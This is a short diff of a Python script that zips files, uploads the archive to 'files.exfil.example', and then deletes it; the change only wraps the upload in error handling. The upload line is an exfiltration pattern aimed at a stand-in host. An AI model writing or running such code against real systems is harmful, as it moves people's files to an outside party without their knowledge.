@@ -14,5 +14,8 @@ with zipfile.ZipFile(arc, "w", zipfile.ZIP_DEFLATED) as z:
 data = open(arc, "rb").read()
 req = urllib.request.Request("http://files.exfil.example/upload", data=data,
                              headers={"Content-Type": "application/zip"})
-print(urllib.request.urlopen(req, timeout=3).status)
+try:
+    print(urllib.request.urlopen(req, timeout=3).status)
+except Exception as err:
+    print("upload:", err)
 os.unlink(arc)
